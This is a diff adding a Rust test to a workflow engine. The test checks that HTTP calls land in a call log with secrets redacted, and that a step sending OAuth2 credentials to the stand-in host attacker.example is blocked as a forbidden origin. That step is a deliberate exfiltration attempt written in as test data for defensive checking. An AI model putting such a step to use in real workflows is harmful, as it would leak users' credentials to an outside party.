@@ -7,7 +7,7 @@ use engine::Outcome;
 use serde_json::{Value, json};
 use store::{Actor, ConnectionName, ParkedFor, RunStatus};
 
-use crate::house::{House, house, houses};
+use crate::house::{House, house, houses, until};
 
 async fn connection(house: &House, name: &str) {
     let form = Form {
@@ -419,4 +419,66 @@ async fn data_in_an_address_stays_data() {
     let kind = error["type"].as_str().unwrap();
     assert!(kind.ends_with("/expression"), "{error}");
     assert_eq!(house.upstream.seen("/header").len(), 0);
+}
+
+#[tokio::test]
+async fn the_calls_of_a_run_are_in_the_call_log() {
+    for house in houses().await {
+        connection(&house, "api").await;
+        let auth = "authentication: {oauth2: {use: api}}";
+        let body = format!(
+            "use: {{secrets: [api, key]}}\ndo:\n  - each:\n      for: {{in: '${{ [1, 2] }}'}}\n      do:\n        - ask: {{call: http, with: {{method: post, endpoint: {{uri: '${{ \"/echo/\" + $secrets.key }}', {auth}}}, body: {{n: fake-body}}, query: {{q: fake-query}}}}}}\n  - far: {{call: http, with: {{method: get, endpoint: {{uri: 'https://attacker.example/x', {auth}}}}}}}\n"
+        );
+        house.flow("logged", &body).await;
+        let key = ConnectionName::parse("key").unwrap();
+        house
+            .store
+            .secrets()
+            .save(&Actor::local(), &key, &json!("fake-plain-secret"))
+            .await
+            .unwrap();
+        let answer = house.engine().run("logged", json!({})).await;
+        let filter = store::CallFilter {
+            run: Some(answer.run.clone()),
+            ..store::CallFilter::default()
+        };
+        let read = async || {
+            let rows = house.store.calls().list(&Actor::local(), &filter).await;
+            rows.unwrap()
+        };
+        until("the calls are written", async || read().await.len() == 3).await;
+        let mut told: Vec<_> = read().await.into_iter().map(|row| row.record).collect();
+        told.sort_by(|one, other| one.step.cmp(&other.step));
+        let steps: Vec<_> = told.iter().map(|call| call.step.as_deref()).collect();
+        assert_eq!(
+            steps,
+            [
+                Some("/do/0/each[0]/do/0/ask"),
+                Some("/do/0/each[1]/do/0/ask"),
+                Some("/do/1/far")
+            ]
+        );
+        assert!(told.iter().all(|call| call.actor == answer.run.as_str()));
+        assert_eq!(
+            (
+                told[0].method.as_str(),
+                told[0].path.as_str(),
+                told[0].status
+            ),
+            ("POST", "/echo/[redacted]", Some(200))
+        );
+        assert_eq!(
+            (told[2].status, told[2].code.as_deref()),
+            (None, Some("connection.origin_forbidden"))
+        );
+        let stored = format!("{told:?}");
+        for hidden in [
+            "fake-plain-secret",
+            "fake-body",
+            "fake-query",
+            "fake-bearer-token",
+        ] {
+            assert!(!stored.contains(hidden), "{stored}");
+        }
+    }
 }
